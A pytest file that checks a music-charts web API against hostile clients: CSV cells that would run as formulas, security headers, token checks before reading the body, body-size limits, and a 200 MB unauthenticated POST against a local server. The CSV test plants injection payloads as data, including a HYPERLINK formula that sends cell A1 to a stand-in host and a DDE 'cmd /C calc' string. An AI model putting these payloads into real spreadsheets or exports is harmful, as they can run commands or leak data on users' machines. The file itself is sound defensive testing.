"""`musiccharts serve` against a hostile client: the token before the body, a body limit, CSV
cells that stay data, and the headers that keep pages and answers what they are."""

from __future__ import annotations

import csv
import io
import os
import socket
import subprocess
import sys
import time
from pathlib import Path

import httpx
import pytest

from musiccharts_pipeline_tests.serving import TOKEN, fill, free_port, serving

pytestmark = pytest.mark.parametrize("warehouse_url", ["duckdb"], indirect=True)
AUTH = {"Authorization": f"Bearer {TOKEN}"}
ROOT = Path(__file__).resolve().parent.parent


@pytest.fixture
def served(pipeline, warehouse_url):
    today = fill(pipeline)
    with serving(pipeline, warehouse_url, today) as s:
        yield s


def _rows(answer) -> list[dict]:
    assert answer.status_code == 200 and answer.headers["content-type"].startswith("text/csv")
    return list(csv.DictReader(io.StringIO(answer.text)))


def test_csv_cells_that_would_run_as_formulas_are_quoted(served):
    s, wh = served, served.wh
    hostile = {
        "track": '=HYPERLINK("http://example.invalid/?"&A1,"go")',
        "artist": "@SUM(1+1)",
        "credit": "+cmd|' /C calc'!A0",
        "genre": "-2+3",
    }
    uuid = wh.scalar(
        "SELECT song_uuid FROM soundcharts.chart_ranking_entries "
        "WHERE chart_slug = 'top-50-fr' ORDER BY ranking_date DESC, position LIMIT 1"
    )
    artist = wh.scalar(
        "SELECT primary_artist_uuid FROM soundcharts.tracks WHERE uuid = :u", {"u": uuid}
    )
    wh.execute(
        "UPDATE soundcharts.tracks SET name = :n, credit_name = :c, primary_genre = :g "
        "WHERE uuid = :u",
        {"n": hostile["track"], "c": hostile["credit"], "g": hostile["genre"], "u": uuid},
    )
    wh.execute(
        "UPDATE soundcharts.chart_ranking_entries SET song_name = :n, credit_name = :c "
        "WHERE song_uuid = :u",
        {"n": hostile["track"], "c": hostile["credit"], "u": uuid},
    )
    wh.execute(
        "UPDATE soundcharts.artists SET name = :n WHERE uuid = :u",
        {"n": hostile["artist"], "u": artist},
    )
    s.app.state.serve.reader.refresh(wait=5)

    ranking = _rows(s.http.get("/api/charts/top-50-fr/rankings?format=csv&limit=5"))
    top = next(r for r in ranking if r["track_uuid"] == uuid)
    assert top["track_name"] == "'" + hostile["track"]
    assert top["artist_name"] == "'" + hostile["artist"]
    # numbers stay numbers: a negative movement is not quoted
    assert all(not r["position"].startswith("'") for r in ranking)

    tracks = _rows(s.http.get("/api/tracks?format=csv&q=HYPERLINK"))
    mine = next(r for r in tracks if r["uuid"] == uuid)
    assert mine["name"] == "'" + hostile["track"]
    assert mine["credit_name"] == "'" + hostile["credit"]
    assert mine["artist_name"] == "'" + hostile["artist"]
    # the JSON answer keeps the stored text as it is
    body = s.http.get(f"/api/tracks/{uuid}").json()
    assert hostile["track"] in str(body)


def test_pages_and_answers_carry_the_security_headers(served):
    s = served
    for path in ("/", "/charts", "/tracks", "/api/health", "/api/charts", "/no-such-page"):
        answer = s.http.get(path, headers={"accept": "text/html"})
        assert answer.headers["x-content-type-options"] == "nosniff", path
        policy = answer.headers["content-security-policy"]
        assert "frame-ancestors 'none'" in policy and "default-src 'none'" in policy, path
    page = s.http.get("/charts").headers["content-security-policy"]
    assert "script-src" not in page and "style-src 'unsafe-inline'" in page


def test_a_write_without_a_token_is_refused_before_its_body_is_read(served):
    s = served
    for method in ("post", "patch", "delete"):
        answer = s.http.request(method, "/api/subscriptions", content=b'{"chart_slug": "top')
        assert answer.status_code == 401, (method, answer.text)  # not "JSON decode error"
        assert answer.headers["www-authenticate"] == "Bearer"
    wrong = s.http.post(
        "/api/subscriptions",
        content=b"{not json",
        headers={"Authorization": "Bearer wrong", "Content-Type": "application/json"},
    )
    assert wrong.status_code == 401 and wrong.json()["error"] == "the bearer token is not valid"


def test_a_body_over_the_limit_is_413_declared_or_streamed(pipeline, warehouse_url, monkeypatch):
    monkeypatch.setenv("MUSICCHARTS_MAX_BODY_BYTES", "1000")
    today = pipeline["soundcharts"].get().simulator.world.today
    with serving(pipeline, warehouse_url, today) as s:
        big = b'{"chart_slug": "top-50-fr", "x": "' + b"a" * 2000 + b'"}'
        declared = s.http.post("/api/subscriptions", content=big, headers=AUTH)
        assert declared.status_code == 413 and "1000 bytes" in declared.json()["error"]

        def chunks():  # no Content-Length: counted while it streams
            yield big[:600]
            yield big[600:]

        streamed = s.http.post("/api/subscriptions", content=chunks(), headers=AUTH)
        assert streamed.status_code == 413
        assert s.http.get("/api/subscriptions").json()["total"] == 0  # nothing was written
        ok = s.http.post("/api/subscriptions", json={"chart_slug": "top-50-fr"}, headers=AUTH)
        assert ok.status_code == 201, ok.text


def _rss_kib(pid: int) -> int:
    for line in Path(f"/proc/{pid}/status").read_text().splitlines():
        if line.startswith("VmRSS:"):
            return int(line.split()[1])
    raise AssertionError("no VmRSS")


def test_a_200_mb_unauthenticated_post_costs_the_server_nothing(warehouse_url, tmp_path):
    """The real server in its own process: memory before and after a 200 MB POST with no token,
    the answer's delay, and that it goes on serving."""
    port = free_port()
    env = {
        **os.environ,
        "MUSICCHARTS_WAREHOUSE_URL": warehouse_url,
        "MUSICCHARTS_API_TOKEN": TOKEN,
        "DAGSTER_HOME": str(tmp_path),
    }
    server = subprocess.Popen(
        [sys.executable, "-m", "musiccharts_pipeline.cli", "serve", "--port", str(port)],
        cwd=ROOT,
        env=env,
        stdout=subprocess.DEVNULL,
        stderr=subprocess.PIPE,
    )
    base = f"http://127.0.0.1:{port}"
    try:
        deadline = time.monotonic() + 60
        while True:
            assert server.poll() is None, server.stderr.read().decode()
            try:
                if httpx.get(f"{base}/api/health").status_code == 200:
                    break
            except httpx.HTTPError:
                pass
            assert time.monotonic() < deadline, "the server did not start"
            time.sleep(0.2)
        idle = _rss_kib(server.pid)
        size = 200 * 1024 * 1024
        started = time.monotonic()
        with socket.create_connection(("127.0.0.1", port)) as conn:
            conn.sendall(
                b"POST /api/subscriptions HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n"
                + f"Content-Length: {size}\r\n\r\n".encode()
            )
            chunk, sent = b"[" + b"1," * (512 * 1024), 0
            try:
                while sent < size:
                    conn.sendall(chunk)
                    sent += len(chunk)
            except OSError:
                pass  # the server answered and closed: the rest is never read
            conn.settimeout(5)
            head = conn.recv(4096).decode("latin-1")
        answered = time.monotonic() - started
        assert head.startswith("HTTP/1.1 401"), head[:200]
        after = _rss_kib(server.pid)
        print(f"serve RSS idle {idle} KiB, after the POST {after} KiB, answered in {answered:.3f}s")
        assert after - idle < 50 * 1024
        assert answered < 1.0
        assert httpx.get(f"{base}/api/health").status_code == 200  # still serving
    finally:
        server.terminate()
        server.wait(30)


def test_the_api_applies_the_same_subscription_rules_as_the_cli(served):
    s = served
    refused = [
        ({"chart_slug": "viral-50-global", "priority_platforms": ["spotify", "<b>x"]}, "known: "),
        ({"chart_slug": "viral-50-global", "frequency": "custom"}, "needs an interval"),
        ({"chart_slug": "top-50-fr"}, "already subscribed"),
    ]
    for body, message in refused:
        answer = s.http.post("/api/subscriptions", json=body, headers=AUTH)
        assert answer.status_code in (400, 409) and message in answer.json()["error"], answer.text
    assert [i["chart_slug"] for i in s.http.get("/api/subscriptions").json()["items"]] == [
        "top-50-fr"
    ]
    patch = s.http.patch(
        "/api/subscriptions/top-50-fr", json={"priority_platforms": ["myspace"]}, headers=AUTH
    )
    assert patch.status_code == 400 and "unknown platform(s) 'myspace'" in patch.json()["error"]
